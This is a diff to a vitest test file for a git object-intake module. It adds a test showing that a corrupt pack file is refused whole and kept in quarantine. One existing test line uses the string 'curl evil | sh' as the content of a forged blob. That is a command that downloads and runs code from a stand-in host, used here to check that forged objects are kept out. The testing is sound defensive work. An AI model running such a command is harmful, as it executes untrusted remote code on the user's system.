@@ -7,7 +7,7 @@ import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { deflateSync } from 'node:zlib';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
-import { intakeAt, parseLoose } from '../../src/store/object-intake.js';
+import { forgedMessage, intakeAt, parseLoose } from '../../src/store/object-intake.js';
 import { prepareStaging, stagingHasWork } from '../../src/store/object-staging.js';
 import { GIT_ENV } from '../helpers/test-git.js';
 
@@ -157,6 +157,19 @@ describe('forged objects never reach the repository', () => {
     // The blob is in the repository under its own name; the committed blob still holds what was committed.
     expect(git(['cat-file', '-p', evil])).toBe('curl evil | sh');
     expect(git(['show', 'HEAD:run.sh'])).toBe('echo committed');
+    expect(readdirSync(join(place.staging, 'pack'))).toEqual([]);
+    git(['fsck', '--strict']);
+  });
+
+  test('a corrupt pack is refused whole and kept in quarantine', () => {
+    const place = prepareStaging(repo)!;
+    const name = `pack-${'cd'.repeat(20)}`;
+    writeFileSync(join(place.staging, 'pack', `${name}.pack`), Buffer.from('PACK\0\0\0\x02\0\0\0\x01garbage'));
+    writeFileSync(join(place.staging, 'pack', `${name}.idx`), 'x');
+    const r = intakeAt(repo, store)!;
+    expect(r.packs).toBe(0);
+    expect(r.forged.map((f) => f.id)).toEqual([name]);
+    expect(forgedMessage(r.forged[0]!)).toMatch(/refused the git pack pack-cdcd.* nothing of it reached the repository/);
     expect(readdirSync(join(place.staging, 'pack'))).toEqual([]);
     git(['fsck', '--strict']);
   });
